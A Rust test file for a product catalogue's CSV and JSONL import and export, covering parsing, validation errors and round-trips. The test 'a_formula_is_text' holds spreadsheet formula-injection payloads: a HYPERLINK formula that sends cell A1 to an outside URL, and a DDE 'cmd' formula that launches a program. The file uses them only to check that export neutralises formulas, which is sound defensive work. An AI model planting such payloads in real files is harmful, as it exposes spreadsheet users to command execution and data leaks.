use domain::catalogue::{Field, NewProduct, Product, ProductStatus};
use domain::words::id::ProductId;
use domain::words::money::Currency;
use jiff::Timestamp;
use proptest::prelude::*;
use serde_json::json;

use super::formula::{guarded, unguarded};
use super::*;

const HEADER: &str = "slug,title,description,category,sku,variant_title,price,currency\n";
const CUP: &str = "cup,Cup,Stoneware.,kitchen,CUP,Blue,14.50,EUR\n";

/// Reads a file in pieces of `size` bytes.
fn read_in(format: FileFormat, file: &[u8], size: usize) -> Result<Vec<Row>, RowFailure> {
    let (mut reader, mut rows) = (Reader::of(format), Vec::new());
    for piece in file.chunks(size) {
        reader.push(piece, &mut rows)?;
    }
    reader.end(&mut rows)?;
    Ok(rows)
}

/// Reads a file, which is the same in whatever pieces it comes.
fn read(format: FileFormat, file: &[u8]) -> Result<Vec<Row>, RowFailure> {
    let whole = read_in(format, file, 1 << 20);
    for size in [1, 2, 7, 64] {
        assert_eq!(read_in(format, file, size), whole, "in pieces of {size}");
    }
    whole
}

fn csv(file: impl AsRef<[u8]>) -> Result<Vec<Row>, RowFailure> {
    read(FileFormat::Csv, file.as_ref())
}

fn rows(file: impl AsRef<[u8]>) -> Vec<FileRow> {
    csv(file).unwrap().into_iter().map(Result::unwrap).collect()
}

/// Returns what is wrong with the rows: the row, its column or pointer, and the code.
fn wrong(rows: Result<Vec<Row>, RowFailure>) -> Vec<(u64, String, String)> {
    let failures = match rows {
        Ok(rows) => rows.into_iter().filter_map(Result::err).collect(),
        Err(fault) => vec![fault],
    };
    let place = |failure: &RowFailure| failure.column.clone().or(failure.pointer.clone()).unwrap_or_default();
    failures.into_iter().map(|failure| (failure.row, place(&failure), failure.code)).collect()
}

fn is(row: u64, place: &str, code: &str) -> (u64, String, String) {
    (row, place.to_owned(), code.to_owned())
}

#[test]
fn a_row_is_a_variant_with_its_product() {
    let file = format!("{HEADER}{CUP}");
    let [row] = &rows(file)[..] else { panic!("one row") };
    assert_eq!(row.place.row, 2);
    assert_eq!((row.product.slug.as_ref(), row.product.title.as_ref()), ("cup", "Cup"));
    assert_eq!((row.product.description.as_ref(), row.product.status), ("Stoneware.", None));
    assert_eq!((row.variant.sku.as_ref(), row.variant.price.amount()), ("CUP", 1450));
    assert_eq!((row.variant.tax_rate, row.variant.stock_delta), (None, None));
}

#[test]
fn a_spreadsheets_file_is_read_whatever_separates_its_cells_and_rows() {
    let plain = rows(format!("{HEADER}{CUP}"));
    let semicolons = format!("{HEADER}{CUP}").replace(',', ";").replace("14.50", "14,50");
    for file in [
        format!("\u{feff}{HEADER}{CUP}"),
        format!("{HEADER}{CUP}").replace('\n', "\r\n"),
        format!("{HEADER}{CUP}").replace('\n', "\r"),
        format!("{HEADER}{}", CUP.trim_end()),
        format!("{HEADER}{CUP},,,,,,,\n\n"),
        format!("\u{feff}{semicolons}").replace('\n', "\r\n"),
        format!("{HEADER}{CUP}").replace("14.50", "\"14,50\"").replace("slug", "Slug"),
        format!("{HEADER}{CUP}").replace("CUP,", " CUP ,"),
    ] {
        assert_eq!(rows(&file), plain, "{file:?}");
    }
    let reordered = "currency,price,variant_title,sku,category,description,title,slug\nEUR,14.5,Blue,CUP,kitchen,Stoneware.,Cup,cup";
    assert_eq!(rows(reordered), plain);
}

#[test]
fn quotes_and_line_breaks_in_cells_are_text_and_rows_are_counted_as_a_spreadsheet_does() {
    let file = format!(
        "{HEADER}cup,\"Cup \"\"Ada\"\"\",\"One,\r\ntwo;\n\nthree\",kitchen,CUP,Blue,14.50,EUR\r\n\r\n\r\n{CUP}"
    );
    let file = file.replacen("CUP,Blue", "CUP-1,Blue", 1);
    let rows = csv(&file).unwrap();
    let row = rows[0].as_ref().unwrap();
    assert_eq!(row.product.title.as_ref(), "Cup \"Ada\"");
    assert_eq!(row.product.description.as_ref(), "One,\r\ntwo;\n\nthree");
    assert_eq!(number(&rows[0]), 2, "the line breaks in its cell are not rows");
    assert_eq!(number(&rows[1]), 5, "the empty rows are");
}

#[test]
fn optional_columns_may_be_empty() {
    let header = HEADER.replace("currency", "currency,status,tax_rate,stock_delta");
    let file =
        format!("{header}{}{}", CUP.replace("EUR", "EUR,active,2100,-3"), CUP.replace("EUR", "EUR,,,0"));
    let rows = rows(file);
    assert_eq!(rows[0].product.status, Some(ProductStatus::Active));
    assert_eq!(rows[0].variant.tax_rate.unwrap().basis_points(), 2100);
    assert_eq!(rows[0].variant.stock_delta.unwrap().into_inner(), -3);
    assert_eq!(
        rows[1].product.status,
        Some(ProductStatus::Active),
        "as in the row above, of the same product"
    );
    assert_eq!((rows[1].variant.tax_rate, rows[1].variant.stock_delta), (None, None));
}

#[test]
fn empty_cells_of_a_product_say_what_the_row_above_says() {
    let file =
        format!("{HEADER}{CUP}cup,,,,CUP-RED,Red,15,EUR\nbowl,,,,BOWL,One,1,EUR\ncup,,,,CUP-3,Green,1,EUR\n");
    let rows = csv(file);
    assert_eq!(wrong(rows.clone()), [is(3 + 1, "title", "missing_value")]);
    let rows = rows.unwrap();
    let of = |at: usize| rows[at].as_ref().unwrap().product.clone();
    assert_eq!((of(1), of(3)), (of(0), of(0)));
}

#[test]
fn a_formula_is_text() {
    let formula = "=HYPERLINK(\"\"http://example.org/?\"\"&A1)";
    let file = format!("{HEADER}cup,\"{formula}\",@SUM(1),kitchen,CUP,-1+2,14.50,EUR\n");
    let [row] = &rows(file)[..] else { panic!("one row") };
    assert_eq!(row.product.title.as_ref(), "=HYPERLINK(\"http://example.org/?\"&A1)");
    assert_eq!((row.product.description.as_ref(), row.variant.title.as_ref()), ("@SUM(1)", "-1+2"));
    let products = [product(&[("cup", "=cmd|' /C calc'!A0", "+49 30", "'-x")])];
    let text = csv_lines(&products, true).unwrap();
    assert!(text.contains(",'=cmd|' /C calc'!A0,'+49 30,") && text.contains(",''-x,"), "{text}");
    let [row] = &rows(text)[..] else { panic!("one row") };
    assert_eq!(row.product.title.as_ref(), "=cmd|' /C calc'!A0");
    assert_eq!(row.variant.title.as_ref(), "'-x");
}

#[test]
fn the_header_names_each_column_once_and_no_other() {
    let with = |name: &str| format!("{}\n{CUP}", HEADER.trim_end().to_owned() + "," + name);
    assert_eq!(wrong(csv(with("colour"))), [is(1, "colour", "unknown_column")]);
    assert_eq!(wrong(csv(with("slug"))), [is(1, "slug", "repeated_column")]);
    assert_eq!(wrong(csv(with(""))), [is(1, "", "unknown_column")]);
    for (field, name) in Field::all().iter().map(|field| (field, field.name())) {
        let header =
            HEADER.trim_end().split(',').filter(|column| *column != name).collect::<Vec<_>>().join(",");
        let expected = if field.is_optional() { vec![] } else { vec![is(1, name, "missing_column")] };
        assert_eq!(wrong(csv(&header)), expected, "{header}");
    }
    let long = "x".repeat(300);
    assert_eq!(wrong(csv(&long)), [is(1, &long[..80], "unknown_column")]);
    for empty in ["", "\n", "\u{feff}", "\r\n\r\n", HEADER] {
        assert_eq!(csv(empty).unwrap(), [], "{empty:?}");
    }
}

#[test]
fn a_file_in_another_encoding_is_refused_at_its_row_and_column() {
    let text = format!("{HEADER}{}", CUP.replace("Stoneware.", "Größe"));
    let utf_16: Vec<u16> = text.encode_utf16().collect();
    let little: Vec<u8> = utf_16.iter().flat_map(|unit| unit.to_le_bytes()).collect();
    let big: Vec<u8> = utf_16.iter().flat_map(|unit| unit.to_be_bytes()).collect();
    for file in
        [[vec![0xff, 0xfe], little.clone()].concat(), [vec![0xfe, 0xff], big.clone()].concat(), little, big]
    {
        assert_eq!(wrong(csv(&file)), [is(1, "1", "not_utf8")]);
    }
    let latin: Vec<u8> = text.chars().map(|letter| u8::try_from(u32::from(letter)).unwrap()).collect();
    let latin = [latin, CUP.replace("CUP", "CUP-2").into_bytes()].concat();
    let rows = csv(latin).unwrap();
    assert_eq!(wrong(Ok(rows.clone())), [is(2, "description", "not_utf8")]);
    assert!(rows[1].is_ok(), "the other rows are read");
    assert_eq!(wrong(csv(b"sl\xfcg\n")), [is(1, "1", "not_utf8")]);
}

#[test]
fn each_cell_is_checked() {
    let file = |cell: &str, with: &str| format!("{HEADER}{}", CUP.replacen(cell, with, 1));
    for (cell, with, column, code) in [
        ("cup", "", "slug", "missing_value"),
        ("cup", "Cup", "slug", "invalid_value"),
        ("Cup", "", "title", "missing_value"),
        ("Cup", "\"A\u{202e}B\"", "title", "invalid_value"),
        ("kitchen", "", "category", "missing_value"),
        ("CUP", "cup", "sku", "invalid_value"),
        ("CUP", "", "sku", "missing_value"),
        ("Blue", "\"Bl\nue\"", "variant_title", "invalid_value"),
        ("14.50", "1.450", "price", "invalid_value"),
        ("14.50", "-1", "price", "invalid_value"),
        ("14.50", "14.50 €", "price", "invalid_value"),
        ("EUR", "Euro", "currency", "invalid_value"),
        ("EUR", "XAU", "price", "invalid_value"),
        ("EUR", "EUR,1", "", "cell_count"),
        (",EUR", "", "", "cell_count"),
    ] {
        assert_eq!(wrong(csv(file(cell, with))), [is(2, column, code)], "{cell} → {with}");
    }
    let header = HEADER.replace("currency", "currency,status,tax_rate,stock_delta");
    for (cells, column) in [
        ("sold_out,,", "status"),
        ("unknown,,", "status"),
        (",19%,", "tax_rate"),
        (",10001,", "tax_rate"),
        (",,1.5", "stock_delta"),
        (",,1000001", "stock_delta"),
        (",,-1000001", "stock_delta"),
    ] {
        let file = format!("{header}{}", CUP.replace("EUR", &format!("EUR,{cells}")));
        assert_eq!(wrong(csv(file)), [is(2, column, "invalid_value")], "{cells}");
    }
}

#[test]
fn a_quotation_mark_that_is_not_closed_ends_the_file_at_its_row() {
    let rest = CUP.repeat(2_000);
    let file = format!("{HEADER}{CUP}{}{rest}", CUP.replace("Stoneware", "\"Stoneware"));
    assert_eq!(wrong(csv(file)), [is(3, "", "row_too_long")]);
    let file = format!("{HEADER}{}{CUP}", CUP.replace("Stoneware", "\"Stoneware"));
    assert_eq!(wrong(csv(file)), [is(2, "", "cell_count")], "near the end");
    assert_eq!(wrong(csv(",".repeat(300))), [is(1, "", "row_too_long")]);
}

fn line(of: serde_json::Value) -> String {
    format!("{of}\n")
}

fn cup() -> serde_json::Value {
    json!({
        "slug": "cup", "title": "Cup", "description": "Stoneware.", "category": "kitchen", "status": "active",
        "variants": [
            { "sku": "CUP", "title": "Blue", "price": { "amount": 1450, "currency": "EUR" }, "tax_rate": 2100 },
            { "sku": "CUP-RED", "title": "Red", "price": { "amount": 1550, "currency": "EUR" }, "stock_delta": 3 },
        ],
    })
}

fn jsonl(file: impl AsRef<[u8]>) -> Result<Vec<Row>, RowFailure> {
    read(FileFormat::Jsonl, file.as_ref())
}

#[test]
fn a_line_is_a_product_with_its_variants() {
    let file = format!("\u{feff}{}\r\n\n{}", line(cup()).trim_end(), line(cup()).trim_end());
    let rows: Vec<FileRow> = jsonl(file).unwrap().into_iter().map(Result::unwrap).collect();
    let places: Vec<_> = rows.iter().map(|row| (row.place.row, row.place.variant)).collect();
    assert_eq!(places, [(1, Some(0)), (1, Some(1)), (3, Some(0)), (3, Some(1))]);
    assert_eq!(rows[1].variant.stock_delta.unwrap().into_inner(), 3);
    assert_eq!(rows[0].product, rows[3].product);
}

#[test]
fn a_wrong_line_names_its_place_and_hinders_no_other() {
    let with = |pointer: &str, value: serde_json::Value| {
        let mut wrong = cup();
        *wrong.pointer_mut(pointer).unwrap() = value;
        wrong
    };
    let mut unknown = cup();
    unknown["variants"][1]["colour"] = "red".into();
    let mut missing = cup();
    missing.as_object_mut().unwrap().remove("title");
    for (wrong_line, pointer) in [
        (line(with("/slug", json!("Cup"))), "/slug"),
        (line(with("/variants/1/price/amount", json!(-1))), "/variants/1/price"),
        (line(with("/variants/1/price/currency", json!("XXQ"))), "/variants/1/price/currency"),
        (line(with("/status", json!("sold_out"))), "/status"),
        (line(with("/variants", json!([]))), "/variants"),
        (line(with("/variants/1/stock_delta", json!(0))), "/variants/1/stock_delta"),
        (line(unknown), "/variants/1/colour"),
        (line(missing), ""),
        ("{\"slug\": \n".to_owned(), ""),
        ("[1]\n".to_owned(), ""),
        ("null\n".to_owned(), ""),
    ] {
        let rows = jsonl(format!("{wrong_line}{}", line(cup()))).unwrap();
        assert_eq!(wrong(Ok(rows.clone())), [is(1, pointer, "invalid_json")], "{wrong_line}");
        assert_eq!(rows.len(), 3, "the next line is read");
    }
    let latin = [b"{\"slug\": \"\xfc\"}\n".to_vec(), line(cup()).into_bytes()].concat();
    assert_eq!(wrong(jsonl(latin)), [is(1, "", "not_utf8")]);
    let utf_16: Vec<u8> = line(cup()).encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert_eq!(wrong(jsonl(utf_16)), [is(1, "", "not_utf8")]);
    let long = format!("{{\"slug\": \"{}\"}}\n{}", "x".repeat(300_000), line(cup()));
    assert_eq!(wrong(read_in(FileFormat::Jsonl, long.as_bytes(), 4_096)), [is(1, "", "row_too_long")]);
}

fn product(variants: &[(&str, &str, &str, &str)]) -> Product {
    let (slug, title, description, _) = variants[0];
    let variants: Vec<_> = (1..)
        .zip(variants)
        .map(|(number, (.., name))| {
            let price = json!({ "amount": 1450 + number, "currency": "EUR" });
            json!({ "sku": format!("CUP-{number}"), "title": name, "price": price, "tax_rate": 700 })
        })
        .collect();
    let new = json!({
        "slug": slug, "title": title, "description": description, "category": "kitchen", "status": "active",
        "variants": variants,
    });
    let new: NewProduct = serde_json::from_value(new).unwrap();
    Product::create(ProductId::from_parts(0, 1), new, Timestamp::UNIX_EPOCH).unwrap().0
}

fn is_of(row: &FileRow, product: &Product) -> bool {
    let variant = product.variants.iter().find(|variant| variant.sku == row.variant.sku).unwrap();
    row.product.slug == product.slug
        && row.product.title == product.title
        && row.product.description == product.description
        && row.product.category == product.category
        && row.product.status == Some(product.status)
        && row.variant.title == variant.title
        && row.variant.price == variant.price
        && row.variant.tax_rate == Some(variant.tax_rate)
        && row.variant.stock_delta.is_none()
}

#[test]
fn a_retired_variant_is_not_exported() {
    let mut cup = product(&[("cup", "Cup", "", "Blue"), ("cup", "Cup", "", "Red")]);
    cup.variants[0].retired = true;
    assert_eq!(rows(csv_lines(std::slice::from_ref(&cup), true).unwrap()).len(), 1);
    assert_eq!(jsonl(json_lines(std::slice::from_ref(&cup)).unwrap()).unwrap().len(), 1);
    cup.variants[1].retired = true;
    assert_eq!(json_lines(std::slice::from_ref(&cup)).unwrap(), "");
    assert_eq!(csv_lines(&[cup], false).unwrap(), "");
}

#[test]
fn pages_of_an_export_are_one_file() {
    let cup = product(&[("cup", "Cup", "", "Blue"), ("cup", "Cup", "", "Red")]);
    let pages = csv_lines(std::slice::from_ref(&cup), true).unwrap() + &csv_lines(&[cup], false).unwrap();
    insta::assert_snapshot!(pages.replace("\r\n", "\n"), @r"
    slug,title,description,category,status,sku,variant_title,price,currency,tax_rate,stock_delta
    cup,Cup,,kitchen,active,CUP-1,Blue,14.51,EUR,700,
    cup,,,,,CUP-2,Red,14.52,EUR,700,
    cup,Cup,,kitchen,active,CUP-1,Blue,14.51,EUR,700,
    cup,,,,,CUP-2,Red,14.52,EUR,700,
    ");
}

/// Text with what is special in a file or in a spreadsheet.
fn text() -> impl Strategy<Value = String> {
    prop::collection::vec(
        prop_oneof!["[=+@',;\"-]", "[a-z ]", Just("＝".to_owned()), Just("é".to_owned())],
        1..9,
    )
    .prop_map(|letters| letters.concat())
    .prop_filter("a title", |text| !text.trim().is_empty())
}

proptest! {
    #[test]
    fn an_exported_product_reads_back_as_it_was(
        title in text(), description in prop_oneof![text(), Just("=1\r\n\n+2".to_owned()), Just(String::new())],
        names in prop::collection::vec(text(), 1..4),
    ) {
        let variants: Vec<_> = names.iter().map(|name| ("cup", &*title, &*description, &**name)).collect();
        let product = product(&variants);
        let file = csv_lines(std::slice::from_ref(&product), true).unwrap();
        let mut other = ::csv::Reader::from_reader(file.as_bytes());
        for cell in other.records().map(Result::unwrap).flat_map(|record| record.iter().map(str::to_owned).collect::<Vec<_>>()) {
            prop_assert!(!cell.starts_with(['=', '+', '-', '@', '＝']), "{}", cell);
        }
        let read = rows(file);
        prop_assert_eq!(read.len(), names.len());
        prop_assert!(read.iter().all(|row| is_of(row, &product)), "{:?}", read);
        let read = jsonl(json_lines(std::slice::from_ref(&product)).unwrap()).unwrap();
        prop_assert!(read.iter().all(|row| is_of(row.as_ref().unwrap(), &product)));
    }

    #[test]
    fn no_cell_is_a_formula_and_each_reads_back(text in prop_oneof![text(), "\\PC{0,6}", Just("'".to_owned())]) {
        let cell = guarded(&text);
        prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']));
        prop_assert_eq!(unguarded(&cell), &text);
    }

    #[test]
    fn no_bytes_panic_and_rows_have_growing_numbers(
        file in prop::collection::vec(prop_oneof![any::<u8>(), Just(b','), Just(b'"'), Just(b'\n'), Just(b'\r')], 0..300),
    ) {
        for format in [FileFormat::Csv, FileFormat::Jsonl] {
            let file = if format == FileFormat::Csv { [HEADER.as_bytes(), &file].concat() } else { file.clone() };
            let whole = read_in(format, &file, 1 << 20);
            prop_assert_eq!(&read_in(format, &file, 3), &whole);
            if let Ok(rows) = whole {
                prop_assert!(rows.windows(2).all(|pair| number(&pair[0]) <= number(&pair[1])));
            }
        }
    }

    #[test]
    fn every_currency_reads_back(amount in 0..10_000_000_i64, currency in prop::sample::select(vec![Currency::EUR, Currency::JPY, Currency::KWD])) {
        let price = domain::words::money::Money::new(amount, currency).unwrap();
        let row = CUP.replace("14.50", &price.decimal()).replace("EUR", currency.code());
        prop_assert_eq!(rows(format!("{HEADER}{row}"))[0].variant.price, price);
    }
}
